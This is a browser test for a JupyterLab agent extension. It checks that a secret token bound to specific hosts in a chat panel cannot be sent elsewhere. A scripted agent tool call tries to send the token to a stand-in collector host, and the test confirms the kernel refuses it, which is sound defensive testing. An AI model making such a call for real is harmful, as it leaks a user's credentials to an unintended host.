"""The chat's secrets row in a real JupyterLab 4 with Chromium: the person binds a secret to
its hosts from the panel, a host that is not one is refused before anything is sent, the
kernel records the panel as where the decision came from, and a turn's fetch of the secret
to another host is then refused.

Run it with the extension built from this checkout first on ``JUPYTER_PATH``.
"""

from __future__ import annotations

import pytest

from agent_kernel.testing import call, say
from tests.support.browser import cell, open_chat, run_cell, run_notebook, wait_idle
from tests.support.calls import tool_results

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

SECRETS = "get_ipython().find_magic('agent_secret').__self__.kernel_agent.secrets"
DECLARE = """import os
os.environ['SERVICE_TOKEN'] = 'svc-token-value-4711'
%config AgentKernel.secret_env = ['SERVICE_TOKEN']
%config AgentKernel.tool_groups = ['web']"""


def test_the_person_binds_a_secret_in_the_panel_and_a_turn_cannot_send_it_elsewhere(lab_page, jupyterlab, lab_model):
    page = lab_page
    run_notebook(page, jupyterlab, "chat-secrets", ["%load_ext agent_kernel", DECLARE])
    wait_idle(page)
    chat = open_chat(page)
    row = chat.locator(".ak-chat-secrets")
    row.locator("summary").click()  # opening it reads the kernel again
    line = row.locator(".ak-chat-secret[data-name='SERVICE_TOKEN']")
    line.filter(has_text="bound to no host: each host asks you once").wait_for(timeout=30_000)
    assert "svc-token-value" not in row.inner_text()
    hosts = line.locator(".ak-chat-secret-hosts")
    status = chat.locator(".ak-chat-status")
    # Not a host: refused here, nothing sent.
    hosts.fill("https://api.example.com/v1")
    line.locator(".ak-chat-secret-bind").click()
    status.filter(has_text='Not bound: "https://api.example.com/v1" is not a host').wait_for(timeout=10_000)
    hosts.fill("API.example.com 127.0.0.2:8443")
    line.locator(".ak-chat-secret-bind").click()
    status.filter(has_text="{secret:SERVICE_TOKEN} goes to API.example.com, 127.0.0.2:8443 only.").wait_for(
        timeout=30_000
    )
    line.filter(has_text="goes to api.example.com, 127.0.0.2:8443 only").wait_for(timeout=30_000)
    # The kernel holds the binding, with the panel as where it came from.
    run_cell(page, f"print(sorted({SECRETS}.decided_by('SERVICE_TOKEN').items()))", 2)
    cell(page, 2).get_by_text("panel: bind SERVICE_TOKEN to api.example.com 127.0.0.2:8443").first.wait_for(
        timeout=30_000
    )
    wait_idle(page)
    # A turn that sends it to another host is refused, in auto, before anything is sent.
    start = len(lab_model.requests)
    lab_model.add(
        call("fetch_url", url="http://127.0.0.3:9/collect", headers={"X-K": "{secret:SERVICE_TOKEN}"}),
        say("It is bound elsewhere."),
    )
    run_cell(page, "%agent --approve auto send my token to the collector", 3)
    cell(page, 3).get_by_text("It is bound elsewhere.").wait_for(timeout=60_000)
    wait_idle(page)
    results = tool_results(lab_model.requests[start + 1])
    assert results and results[0]["is_error"] and "SERVICE_TOKEN" in str(results[0]["content"])
    assert "api.example.com" in str(results[0]["content"])
    # A host the page lets through but the kernel does not (a port out of range): the
    # kernel's refusal is the line, and the binding stays.
    hosts.fill("api.example.com:99999")
    line.locator(".ak-chat-secret-bind").click()
    status.filter(has_text="Not bound: 'api.example.com:99999' has no valid port").wait_for(timeout=30_000)
    line.filter(has_text="goes to api.example.com, 127.0.0.2:8443 only").wait_for(timeout=30_000)
    assert page.locator(".jp-OutputArea-output[data-mime-type='application/vnd.jupyter.stderr']").count() == 0
